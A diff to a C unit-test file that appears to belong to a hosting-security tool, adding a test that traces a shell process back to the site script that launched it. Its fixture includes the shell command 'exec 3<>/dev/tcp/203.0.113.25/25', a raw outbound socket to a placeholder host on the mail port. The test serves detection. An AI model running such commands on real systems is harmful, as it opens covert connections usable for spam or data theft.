@@ -52,6 +52,30 @@ static void test_ancestor_argument(void **state)
 	assert_false(script.inherited || script.claimed);
 }
 
+/* A script that hands a command line to a shell is the one to name, not the shell. */
+static void test_ancestor_of_a_command_line(void **state)
+{
+	struct sw_script kernel = ANCESTOR("/usr/bin/python3\0bot.py", "public_html\0shop42\0home");
+	struct observation shell = {
+		.identity = &somebody,
+		.executable = "/usr/bin/dash",
+		ARGV("sh\0-c\0exec 3<>/dev/tcp/203.0.113.25/25"),
+		.cwd = "/",
+		.kernel_script = &kernel,
+	};
+
+	(void)state;
+	assert_text(find(&shell).path, "/home/shop42/public_html/bot.py");
+	assert_true(find(&shell).inherited);
+	assert_false(find(&shell).one_liner);
+
+	/* Where that one is a command line too, the nearer one is told. */
+	kernel = ANCESTOR("-bash\0-c\0f", "shop42\0home");
+	assert_true(find(&shell).one_liner);
+	assert_false(find(&shell).inherited);
+	assert_null(find(&shell).site);
+}
+
 static void test_ancestor_without_directory(void **state)
 {
 	struct sw_script kernels[] = {
@@ -164,6 +188,7 @@ int main(void)
 {
 	static const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_ancestor_argument),
+		cmocka_unit_test(test_ancestor_of_a_command_line),
 		cmocka_unit_test(test_ancestor_without_directory),
 		cmocka_unit_test(test_ancestor_that_says_nothing),
 		cmocka_unit_test(test_pool),
